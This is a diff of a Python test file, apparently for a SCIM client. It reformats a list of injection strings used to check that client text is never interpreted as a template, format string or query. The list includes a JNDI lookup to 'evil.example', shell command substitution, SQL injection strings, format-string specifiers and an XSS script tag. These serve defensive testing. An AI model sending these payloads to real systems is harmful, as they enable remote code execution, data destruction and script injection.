@@ -579,8 +579,10 @@ def test_no_policy_reaches_a_protected_person(scim: ScimClient, boss: ScimUser, 
 # T-FILT, SAP: client text is never a template, a format or a query -------------------------------------------
 
 TEMPLATES = [
-    "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "{0.__class__}", "{self}", "{}", "%(x)s", "%s%s%s%n", "%", "$(id)", "`id`",
-    "${jndi:ldap://evil.example/x}", "{% debug %}", "'; DROP TABLE x; --", "1 OR 1=1", "\\x00", "<script>alert(1)</script>",
+    "${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "{0.__class__}", "{self}", "{}", "%(x)s", "%s%s%s%n", "%",
+    "$(id)", "`id`",
+    "${jndi:ldap://evil.example/x}", "{% debug %}", "'; DROP TABLE x; --", "1 OR 1=1", "\\x00",
+    "<script>alert(1)</script>",
 ]  # fmt: skip
 
 
